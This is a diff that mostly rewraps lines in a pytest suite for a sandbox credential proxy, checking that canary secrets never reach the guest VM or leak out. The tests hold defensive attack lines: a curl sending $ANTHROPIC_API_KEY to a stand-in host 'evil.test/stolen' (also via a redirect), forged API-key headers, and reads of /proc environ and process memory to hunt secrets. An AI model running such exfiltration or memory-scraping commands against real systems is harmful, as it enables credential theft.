@@ -1,7 +1,8 @@
-"""Credentials that never enter the sandbox: real clients in a real VM, real servers on loopback (tests/rigs/lab/credlab.py).
+"""Credentials that never enter the sandbox: real clients in a real VM, real servers on loopback
+(tests/rigs/lab/credlab.py).
 
-The canaries are set with `sbx secret`; the servers say what arrived; and at the end everything that the guest is (memory, disk,
-environments) and everything that sbx writes down is searched for them.
+The canaries are set with `sbx secret`; the servers say what arrived; and at the end everything that
+the guest is (memory, disk, environments) and everything that sbx writes down is searched for them.
 """
 import base64
 import json
@@ -43,7 +44,8 @@ SLOTS = {
 TOKEN = "tok-" + secrets.token_hex(20)
 GIT_USER = "x-access-token"
 # Scripts say these names; the servers have the real ones, which the guest's programs must see.
-REAL = {"here.test": "api.anthropic.com", "git.test": "github.com", "groq.test": "api.groq.com", "login.test": "platform.claude.com", "account.test": "mcp-proxy.anthropic.com"}
+REAL = {"here.test": "api.anthropic.com", "git.test": "github.com", "groq.test": "api.groq.com",
+        "login.test": "platform.claude.com", "account.test": "mcp-proxy.anthropic.com"}
 
 
 @pytest.fixture(scope="module")
@@ -60,9 +62,12 @@ def lab(tmp_path_factory):
 @pytest.fixture(scope="module")
 def env(lab):
     with private(policy="none") as made:
-        ports = {**dict.fromkeys(SLOTS, lab.server.port), "evil.test": lab.evil.port, "github.com": lab.gits.port, "registry.test": lab.images.port,
-                 "plain.test": lab.server.port, REAL["login.test"]: lab.server.port, REAL["account.test"]: lab.server.port}
-        made.sbx("settings", "set", "network.connect-to", ",".join(f"{name}:443=127.0.0.1:{port}" for name, port in ports.items()))
+        ports = {**dict.fromkeys(SLOTS, lab.server.port), "evil.test": lab.evil.port,
+                 "github.com": lab.gits.port, "registry.test": lab.images.port,
+                 "plain.test": lab.server.port, REAL["login.test"]: lab.server.port,
+                 REAL["account.test"]: lab.server.port}
+        made.sbx("settings", "set", "network.connect-to",
+                 ",".join(f"{name}:443=127.0.0.1:{port}" for name, port in ports.items()))
         made.sbx("settings", "set", "network.extra-ca", lab.ca.pem)
         made.sbx("policy", "set-default", "deny-all")
         made.sbx("policy", "reset", "--yes", check=False)
@@ -70,10 +75,12 @@ def env(lab):
         made.sbx("policy", "allow", "network", ",".join(ports))
         for name in ("anthropic", "openai", "github", "groq"):
             made.sbx("secret", "set", name, input=CANARIES[name])
-        made.sbx("secret", "set-custom", "--host", "api.test", "--header", "x-secret", "--format", "key=%s", "--env", "LAB_KEY", "lab-api",
+        made.sbx("secret", "set-custom", "--host", "api.test", "--header", "x-secret", "--format",
+                 "key=%s", "--env", "LAB_KEY", "lab-api",
                  input=CANARIES["lab-api"])
         basic = base64.b64encode(CANARIES["lab-registry"].encode()).decode()
-        made.sbx("secret", "set-custom", "--host", "registry.test", "--header", "authorization", "--format", "Basic %s", "lab-registry", input=basic)
+        made.sbx("secret", "set-custom", "--host", "registry.test", "--header", "authorization",
+                 "--format", "Basic %s", "lab-registry", input=basic)
         yield made
 
 
@@ -103,7 +110,8 @@ def got(lab, path, host="api.anthropic.com", n=1):
     request = lab.server.wait(path, n)[-1]
     name, want = SLOTS[host]
     assert lab.server.header(request, name) == [want], request
-    assert "proxy-managed" not in json.dumps(request) and "proxymanaged" not in json.dumps(request), request
+    assert "proxy-managed" not in json.dumps(request) and "proxymanaged" not in json.dumps(
+        request), request
     return request
 
 
@@ -127,7 +135,8 @@ CLIENTS = {
     "python-requests": "python3 -c 'from pip._vendor import requests; print(requests.get(\"https://here.test/PATH\", timeout=60).text)'",
     "node-fetch": "node -e 'fetch(\"https://here.test/PATH\", {headers: {\"x-api-key\": process.env.ANTHROPIC_API_KEY}})"
                   ".then(r => r.text()).then(console.log)'",
-    # Debian's node reads the system's list; the one that people install reads its own and NODE_EXTRA_CA_CERTS.
+    # Debian's node reads the system's list; the one that people install reads its own and
+    # NODE_EXTRA_CA_CERTS.
     "node-own-roots": "node --use-bundled-ca -e 'fetch(\"https://here.test/PATH\").then(r => r.text()).then(console.log)'",
     "node-https": "node -e 'require(\"https\").get(\"https://here.test/PATH\", r => r.pipe(process.stdout))'",
 }
@@ -143,20 +152,24 @@ def test_a_client_is_authenticated(box, lab, name):
 
 
 def test_everybody_reads_the_ca_and_only_root_the_share(box):
-    """The workspaces' share had the folder of the CA closed: node and Java of the agent could not read what they are told to trust."""
+    """The workspaces' share had the folder of the CA closed: node and Java of the agent could not
+    read what they are told to trust."""
     client(box, "cat $NODE_EXTRA_CA_CERTS $SSL_CERT_FILE /run/sbx/cacerts > /dev/null")
-    assert box.fails("ls /run/sbx/workspaces", user="agent") and not box.fails("ls /run/sbx/workspaces/share")
+    assert box.fails("ls /run/sbx/workspaces",
+                     user="agent") and not box.fails("ls /run/sbx/workspaces/share")
 
 
 @pytest.mark.parametrize("host", [h for h in SLOTS if h != "api.anthropic.com"])
 def test_each_service_has_its_slot(box, lab, host):
-    box.guest(real(f"curl -sS -m 60 https://here.test/slot-{host}", **{"here.test": host}), user="agent", timeout=120)
+    box.guest(real(f"curl -sS -m 60 https://here.test/slot-{host}", **{"here.test": host}),
+              user="agent", timeout=120)
     got(lab, f"/slot-{host}", host)
 
 
 def test_git_clones_and_pushes(box, lab):
     lab.gits.make("a.git")
-    out = client(box, "set -e; cd /tmp; rm -rf a; git clone -q https://git.test/a.git a 2>&1; cd a; git config user.email a@b; git config user.name a; "
+    out = client(box,
+                 "set -e; cd /tmp; rm -rf a; git clone -q https://git.test/a.git a 2>&1; cd a; git config user.email a@b; git config user.name a; "
                       "echo hello > f; git add f; git commit -q -m one; git push -q origin HEAD:main 2>&1; rm -rf /tmp/b; git clone -q -b main "
                       "https://git.test/a.git /tmp/b; cat /tmp/b/f")
     assert out.endswith("hello"), out
@@ -182,12 +195,14 @@ for i in range(20):
 print("echoed")
 """
     (box.folder / "ws.py").write_text(script)
-    assert client(box, f"env -u https_proxy -u HTTPS_PROXY python3 {shlex.quote(str(box.folder))}/ws.py").endswith("echoed")
+    assert client(box,
+                  f"env -u https_proxy -u HTTPS_PROXY python3 {shlex.quote(str(box.folder))}/ws.py").endswith("echoed")
     got(lab, "/ws", "api.test")
 
 
 def test_a_stream_of_events_is_not_held_up(box, lab):
-    script = ("python3 -u -c 'import time,urllib.request as u; r=u.urlopen(\"https://here.test/sse?n=6&ms=1000\", timeout=60); "
+    script = (
+        "python3 -u -c 'import time,urllib.request as u; r=u.urlopen(\"https://here.test/sse?n=6&ms=1000\", timeout=60); "
               "t=[time.time() for c in iter(lambda: r.read1(1), b\"\")]; print(max(b-a for a,b in zip(t,t[1:])))'")
     gap = float(client(box, script))
     assert gap <= 1.1, f"{gap} s between two bytes"
@@ -195,7 +210,8 @@ def test_a_stream_of_events_is_not_held_up(box, lab):
 
 def test_a_body_is_streamed_both_ways(box, lab):
     n = 64 << 20
-    out = client(box, f"head -c {n} /dev/zero | curl -sS -m 300 -T - https://here.test/up; curl -sS -m 300 "
+    out = client(box,
+                 f"head -c {n} /dev/zero | curl -sS -m 300 -T - https://here.test/up; curl -sS -m 300 "
                       f"'https://here.test/download?n={n}' | wc -c", timeout=700)
     assert out.split()[-1] == str(n), out[-300:]
     assert got(lab, "/up")["length"] == n
@@ -205,28 +221,39 @@ def test_a_body_is_streamed_both_ways(box, lab):
 
 def test_a_foreign_key_does_not_leave(box, lab):
     for header in ("x-api-key: sk-ant-thief", "X-API-KEY: thief", "authorization: Bearer thief"):
-        out = client(box, f"curl -sS -m 60 -w '%{{http_code}}' -H '{header}' https://here.test/foreign")
+        out = client(box,
+                     f"curl -sS -m 60 -w '%{{http_code}}' -H '{header}' https://here.test/foreign")
         assert out.endswith("403") and "credential" in out, out
     assert not [r for r in lab.server.requests if r["path"] == "/foreign"]
 
 
 def test_a_redirect_takes_no_credential_along(box, lab):
-    client(box, "curl -sS -m 60 -L --cacert /etc/ssl/certs/ca-certificates.crt -H \"x-api-key: $ANTHROPIC_API_KEY\" "
+    client(box,
+           "curl -sS -m 60 -L --cacert /etc/ssl/certs/ca-certificates.crt -H \"x-api-key: $ANTHROPIC_API_KEY\" "
                 f"--cacert {shlex.quote(str(box.folder))}/lab.pem 'https://here.test/redirect?to=https://evil.test/stolen'; true")
-    client(box, f"curl -sS -m 60 --cacert {shlex.quote(str(box.folder))}/lab.pem -H \"x-api-key: $ANTHROPIC_API_KEY\" https://evil.test/stolen")
+    client(box,
+           f"curl -sS -m 60 --cacert {shlex.quote(str(box.folder))}/lab.pem -H \"x-api-key: $ANTHROPIC_API_KEY\" https://evil.test/stolen")
     for request in lab.evil.wait("/stolen"):
         assert not any(canary in json.dumps(request) for canary in CANARIES.values()), request
 
 
-@pytest.mark.parametrize("how", ["plain", "base64", "base64a", "base64b", "base64url", "hex", "HEX", "percent", "percentsome", "json", "html", "htmlhex",
-                                 "utf16", "twice", "split", "header", "trailer", "gzip", "deflate", "br", "zstd", "redirect"])
+@pytest.mark.parametrize("how",
+                         ["plain", "base64", "base64a", "base64b", "base64url", "hex", "HEX",
+                          "percent", "percentsome", "json", "html", "htmlhex",
+                                 "utf16", "twice", "split", "header", "trailer", "gzip", "deflate",
+                          "br", "zstd", "redirect"])
 def test_a_reflection_is_removed(box, lab, how):
-    done = box.exec("curl", "-sS", "-i", "-m", "60", "--compressed", real(f"https://here.test/reflect/{how}"), user="agent", binary=True, timeout=120)
+    done = box.exec("curl", "-sS", "-i", "-m", "60", "--compressed",
+                    real(f"https://here.test/reflect/{how}"), user="agent", binary=True,
+                    timeout=120)
     said, canary = done.stdout, CANARIES["anthropic"].encode()
     got(lab, f"/reflect/{how}")
-    for form in (canary, canary.hex().encode(), canary.hex().upper().encode(), base64.b64encode(canary)[:-4], base64.b64encode(b"u:" + canary)[4:-4],
-                 base64.b64encode(b"x" + canary)[4:-4], canary.decode().encode("utf-16le"), "".join(f"%{b:02x}" for b in canary).encode(),
-                 "".join(f"&#{b};" for b in canary).encode(), "".join(f"\\u00{b:02x}" for b in canary).encode()):
+    for form in (canary, canary.hex().encode(), canary.hex().upper().encode(),
+                 base64.b64encode(canary)[:-4], base64.b64encode(b"u:" + canary)[4:-4],
+                 base64.b64encode(b"x" + canary)[4:-4], canary.decode().encode("utf-16le"),
+                 "".join(f"%{b:02x}" for b in canary).encode(),
+                 "".join(f"&#{b};" for b in canary).encode(),
+                 "".join(f"\\u00{b:02x}" for b in canary).encode()):
         assert form not in said, said[:600]
     assert b"*" in said, said[:600]
 
@@ -238,11 +265,15 @@ def test_plain_http_to_its_host_is_refused(box):
 
 def test_another_host_is_not_opened(box, lab):
     """No credential, no interception: the guest sees the server's own certificate."""
-    out = client(box, f"curl -sS -m 60 --cacert {shlex.quote(str(box.folder))}/lab.pem https://plain.test/through")
+    out = client(box,
+                 f"curl -sS -m 60 --cacert {shlex.quote(str(box.folder))}/lab.pem https://plain.test/through")
     assert '"ok":true' in out
-    # The sandbox's CA is the first in the file, the user's own CAs follow. Alone it must not be enough.
+    # The sandbox's CA is the first in the file, the user's own CAs follow. Alone it must not be
+    # enough.
     own = "mkdir -p /tmp/no-path && sed '/END CERT/q' /run/sbx/ca.pem >/tmp/own.pem && "
-    out = client(box, own + "curl -sS -m 60 --cacert /tmp/own.pem --capath /tmp/no-path https://plain.test/through 2>&1; true")
+    out = client(box,
+                 own
+                 + "curl -sS -m 60 --cacert /tmp/own.pem --capath /tmp/no-path https://plain.test/through 2>&1; true")
     assert "certificate" in out
 
 
@@ -257,7 +288,9 @@ def docker(box, lab):
 
 
 def test_a_container_is_authenticated(docker, lab):
-    out = docker.guest(real("docker run --rm -v /usr:/usr:ro -v /etc/ssl:/etc/ssl:ro lab:1 curl -sS -m 60 https://here.test/container"), timeout=SLOW)
+    out = docker.guest(
+        real(
+        "docker run --rm -v /usr:/usr:ro -v /etc/ssl:/etc/ssl:ro lab:1 curl -sS -m 60 https://here.test/container"), timeout=SLOW)
     assert '"ok":true' in out
     got(lab, "/container")
 
@@ -265,7 +298,8 @@ def test_a_container_is_authenticated(docker, lab):
 @pytest.fixture(scope="module")
 def curl_image(box):
     """An image whose files are the guest's own: a shell, curl and their libraries."""
-    box.guest("set -e; rm -rf /tmp/r; mkdir -p /tmp/r/bin /tmp/r/etc /tmp/r/tmp; cd /tmp/r; for f in bash cat curl; do cp -L $(command -v $f) bin/; done; "
+    box.guest(
+        "set -e; rm -rf /tmp/r; mkdir -p /tmp/r/bin /tmp/r/etc /tmp/r/tmp; cd /tmp/r; for f in bash cat curl; do cp -L $(command -v $f) bin/; done; "
               "ln -s bash bin/sh; ldd bin/bash bin/cat bin/curl | grep -o '/[^ ]*\\.so[^ ]*' | sort -u | while read l; do mkdir -p .${l%/*}; cp -L $l .$l; done; "
               "tar c . | docker import -c 'ENV PATH=/bin' - lab-curl", timeout=SLOW)
     return "lab-curl"
@@ -273,7 +307,9 @@ def curl_image(box):
 
 @pytest.mark.parametrize("kit", ("1", "0"))
 def test_a_build_step_is_authenticated(box, lab, curl_image, kit):
-    out = box.guest(real(f"set -e; rm -rf /tmp/b; mkdir /tmp/b; cd /tmp/b; printf 'FROM {curl_image}\\nRUN curl -sS -m 60 -o /tmp/page https://here.test/build-step-{kit}\\n' "
+    out = box.guest(
+        real(
+        f"set -e; rm -rf /tmp/b; mkdir /tmp/b; cd /tmp/b; printf 'FROM {curl_image}\\nRUN curl -sS -m 60 -o /tmp/page https://here.test/build-step-{kit}\\n' "
                          f">Dockerfile; DOCKER_BUILDKIT={kit} docker build --no-cache -t built . >log 2>&1 || {{ cat log; exit 1; }}; "
                          "docker run --rm built cat /tmp/page"), timeout=SLOW)
     assert '"ok":true' in out, out
@@ -281,7 +317,8 @@ def test_a_build_step_is_authenticated(box, lab, curl_image, kit):
 
 
 def test_docker_pushes_and_pulls_with_a_credential(docker, lab):
-    docker.guest("docker tag lab:1 registry.test/lab:1 && docker push -q registry.test/lab:1 && docker rmi registry.test/lab:1 && "
+    docker.guest(
+        "docker tag lab:1 registry.test/lab:1 && docker push -q registry.test/lab:1 && docker rmi registry.test/lab:1 && "
                  "docker pull -q registry.test/lab:1", timeout=SLOW)
 
 
@@ -289,15 +326,19 @@ def test_docker_pushes_and_pulls_with_a_credential(docker, lab):
 
 def test_tokens_of_a_login_stay_on_the_host(box, lab):
     """The guest sees sentinels; with them it is authenticated, and refreshes."""
-    said = client(box, "curl -sS -m 60 -H 'content-type: application/json' -d '{\"grant_type\":\"authorization_code\",\"code\":\"c\"}' "
+    said = client(box,
+                  "curl -sS -m 60 -H 'content-type: application/json' -d '{\"grant_type\":\"authorization_code\",\"code\":\"c\"}' "
                        "https://login.test/v1/oauth/token")
     assert "proxy-managed" in said and TOKEN not in said, said
-    client(box, "curl -sS -m 60 -H 'authorization: Bearer sk-ant-oat01-proxy-managed' https://account.test/account")
-    assert lab.server.header(lab.server.wait("/account")[0], "authorization") == [f"Bearer {TOKEN}-access-1"]
+    client(box,
+           "curl -sS -m 60 -H 'authorization: Bearer sk-ant-oat01-proxy-managed' https://account.test/account")
+    assert lab.server.header(lab.server.wait("/account")[0],
+                             "authorization") == [f"Bearer {TOKEN}-access-1"]
     refresh = json.loads(said)["refresh_token"]
     body = json.dumps({"grant_type": "refresh_token", "refresh_token": refresh})
     time.sleep(1)
-    said = client(box, f"curl -sS -m 60 -H 'content-type: application/json' -d '{body}' https://login.test/v1/oauth/token")
+    said = client(box,
+                  f"curl -sS -m 60 -H 'content-type: application/json' -d '{body}' https://login.test/v1/oauth/token")
     assert "proxy-managed" in said and TOKEN not in said, said
     CANARIES["token"] = TOKEN
 
@@ -310,7 +351,8 @@ def test_a_new_value_counts_at_once_and_a_removed_one_no_more(env, box, lab):
     client(box, "curl -sS -m 60 https://groq.test/renewed")
     assert lab.server.header(lab.server.wait("/renewed")[0], "authorization") == ["Bearer " + new]
     env.sbx("secret", "rm", "-f", "groq")
-    client(box, f"curl -sS -m 60 --cacert {shlex.quote(str(box.folder))}/lab.pem https://groq.test/removed")
+    client(box,
+           f"curl -sS -m 60 --cacert {shlex.quote(str(box.folder))}/lab.pem https://groq.test/removed")
     assert lab.server.header(lab.server.wait("/removed")[0], "authorization") == []
     CANARIES["groq-2"] = new
     env.sbx("secret", "set", "groq", input=CANARIES["groq"])
@@ -331,10 +373,12 @@ def test_it_works_after_a_restart_and_after_kills(env, box, lab):
     os.kill(env.daemon_pid(), 9)
     client(box, "curl -sS -m 60 https://here.test/after-sbxd")
     got(lab, "/after-sbxd")
-    # The vault of the sbxd that was killed: the new one starts another and gives the adopted keeper a channel.
+    # The vault of the sbxd that was killed: the new one starts another and gives the adopted keeper
+    # a channel.
     for pid in [p for p, name in host.processes(env.folder).items() if name == "sbx-vault"]:
         os.kill(pid, 9)
-    client(box, "curl -sS -m 60 --retry 8 --retry-all-errors https://here.test/after-vault", timeout=200)
+    client(box, "curl -sS -m 60 --retry 8 --retry-all-errors https://here.test/after-vault",
+           timeout=200)
     got(lab, "/after-vault")
 
 
@@ -346,12 +390,14 @@ def spellings(value):
 
 
 def find(data, canaries):
-    return [name for name, value in canaries.items() if any(form in data for form in spellings(value))]
+    return [name for name,
+            value in canaries.items() if any(form in data for form in spellings(value))]
 
 
 def memory(pid):
     """All memory of a process, in pieces that overlap."""
-    with open(f"/proc/{pid}/maps", encoding="ascii") as maps, open(f"/proc/{pid}/mem", "rb", 0) as mem:
+    with open(f"/proc/{pid}/maps",
+              encoding="ascii") as maps, open(f"/proc/{pid}/mem", "rb", 0) as mem:
         for line in maps:
             span, mode = line.split()[:2]
             start, end = (int(x, 16) for x in span.split("-"))
@@ -368,7 +414,8 @@ def memory(pid):
 
 
 def search_guest(box, canaries):
-    """Names of canaries in qemu's memory, which has all of the guest's, in its disks, and in every environment."""
+    """Names of canaries in qemu's memory, which has all of the guest's, in its disks, and in every
+    environment."""
     found = set()
     box.guest("sync")
     for piece in memory(box.pids()["qemu"]):
@@ -379,7 +426,8 @@ def search_guest(box, canaries):
             while piece := f.read(1 << 24):
                 found.update(find(tail + piece, canaries))
                 tail = piece[-4096:]
-    found.update(find(box.guest("cat /proc/*/environ | base64 -w0", timeout=120).encode(), canaries))
+    found.update(find(box.guest("cat /proc/*/environ | base64 -w0", timeout=120).encode(),
+                      canaries))
     environ = base64.b64decode(box.guest("cat /proc/*/environ 2>/dev/null | base64 -w0"))
     found.update(find(environ, canaries))
     return found
@@ -390,7 +438,8 @@ def test_no_canary_is_anywhere(env, box, lab):
     for path in [*env.state.rglob("*"), *env.runtime.rglob("*")]:
         if path.is_file() and path.suffix != ".qcow2":
             assert not find(path.read_bytes(), CANARIES), path
-    for args in (("secret", "ls", "--json"), ("inspect", "cred"), ("audit", "show", "cred"), ("policy", "log", "--json"), ("diagnose",)):
+    for args in (("secret", "ls", "--json"), ("inspect", "cred"), ("audit", "show", "cred"),
+                 ("policy", "log", "--json"), ("diagnose",)):
         assert not find(env.sbx(*args, check=False).stdout.encode(), CANARIES), args
 
 
@@ -402,7 +451,8 @@ def test_the_search_finds_one_that_is_put_there(box):
 
 # sbx secret scan: the vault looks itself
 
-PLACES = {  # in the guest, with the value on stdin: where it must be found; memory has what was written last
+# in the guest, with the value on stdin: where it must be found; memory has what was written last
+PLACES = {
     "disk": "cat >/home/agent/scanned; sync",
     "docker": "mkdir -p /run/d && mount /dev/vdb /run/d && cat >/run/d/scanned; umount /run/d; sync",
     "ram": "cat >/dev/shm/scanned",
@@ -412,10 +462,12 @@ PLACES = {  # in the guest, with the value on stdin: where it must be found; mem
 @pytest.mark.parametrize("place", PLACES)
 def test_a_scan_of_the_sandbox_finds_a_value_where_it_was_put(env, box, place):
     value = "scan-" + secrets.token_hex(24)
-    env.sbx("secret", "set-custom", "-f", "--sandbox", "cred", "--host", "scan.test", "--env", "SCAN_KEY", "scanned", input=value)
+    env.sbx("secret", "set-custom", "-f", "--sandbox", "cred", "--host", "scan.test", "--env",
+            "SCAN_KEY", "scanned", input=value)
 
     def scan():
-        done = env.sbx("secret", "scan", "--sandbox", "cred", "--what", place, "--json", check=False, timeout=300)
+        done = env.sbx("secret", "scan", "--sandbox", "cred", "--what", place, "--json",
+                       check=False, timeout=300)
         assert value not in done.stdout + done.stderr
         return done.returncode, json.loads(done.stdout)["places"][0]["credentials"]
     assert "scanned (sandbox cred)" not in scan()[1]
